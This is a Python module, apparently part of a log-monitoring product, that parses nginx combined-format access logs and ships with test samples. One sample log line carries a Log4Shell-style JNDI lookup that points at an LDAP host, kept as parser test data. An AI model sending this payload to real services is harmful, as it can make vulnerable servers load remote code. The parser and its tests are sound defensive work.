"""Web server access logs in the combined format, as nginx writes them.

Let nginx write `access_log /var/log/nginx/access.log combined;` and follow the file.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

from lionrock.events.records import LogRecord, LogSource, Sample, Source
from lionrock.kernel.text import Text
from lionrock.telemetry.formats import combined
from lionrock.telemetry.formats.lines import lines

ID: Final = "nginx.access"
_LOGSOURCE: Final = LogSource(product=None, category="webserver", service="nginx")


def _claims(name: str, head: bytes) -> bool:
    """Say whether the first line has the combined form and nothing says that Apache wrote it."""
    first = next((line for line in lines(head) if line.strip()), b"")
    return combined.fits(first) is not None and not combined.is_apache(name, first)


def parse(raw: bytes, settings: Mapping[str, str]) -> LogRecord:
    """Return the record of one line; raises InputError."""
    return combined.record(ID, _LOGSOURCE, raw, settings)


_SAMPLES = (
    Sample(
        raw=(
            b'203.0.113.9 - - [22/Nov/2026:18:30:01 +0800] "GET /login?next=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 404 '
            b'162 "-" "curl/8.5.0"'
        ),
        expect={
            "time": "2026-11-22T10:30:01+00:00",
            "host": None,
            "address": "203.0.113.9",
            "ocsf": 4002,
            "logsource": (None, "webserver", "nginx"),
            "fields": {
                "cs-method": "GET",
                "cs-uri-stem": "/login",
                "cs-uri-query": "/login?next=${jndi:ldap://203.0.113.9/a}",
                "sc-status": 404,
                "cs-referer": None,
                "cs-user-agent": "curl/8.5.0",
            },
        },
    ),
    Sample(
        raw=(
            b'198.51.100.4 - meter ops [22/Nov/2026:18:30:02 +0800] "POST /api HTTP/2.0" 200 5 '
            b'"https://portal.example/\\x22x" "Mozilla/5.0 (X11)" "203.0.113.7" 0.004'
        ),
        expect={"user": "meter ops", "fields": {"cs-referer": "https://portal.example/\\x22x"}},
    ),
    Sample(
        raw=b'198.51.100.4 - - [22/Nov/2026:18:30:02 +0800] "\\x16\\x03\\x01\\x02\\x00" 400 150 "-" "-"',
        expect={"fields": {"cs-method": "", "cs-uri": "\\x16\\x03\\x01\\x02\\x00", "cs-user-agent": None}},
    ),
    Sample(
        raw=b'198.51.100.4 - - [31/Feb/2026:18:30:02 +0800] "GET / HTTP/1.1" 200 150 "-" "-"',
        expect={"time": None, "time_text": "31/Feb/2026:18:30:02 +0800"},
    ),
)

NGINX_ACCESS = Source(
    id=ID,
    title=Text("Web server access log (nginx)", "網頁伺服器存取日誌（nginx）"),
    guidance=Text(
        "Follow the access log written as `access_log /var/log/nginx/access.log combined;`. The line does not name "
        "the server: set the stream's host. Behind a proxy, set `real_ip_header`, or every address is the proxy's.",
        "監察以 `access_log /var/log/nginx/access.log combined;` 寫入的存取日誌。日誌行沒有伺服器名稱：請設定資料流的"
        "主機。如在代理伺服器之後，請設定 `real_ip_header`，否則所有位址均為代理伺服器的位址。",
    ),
    claims=_claims,
    split=lines,
    parse=parse,
    samples=_SAMPLES,
    maps=combined.MAPS,
)
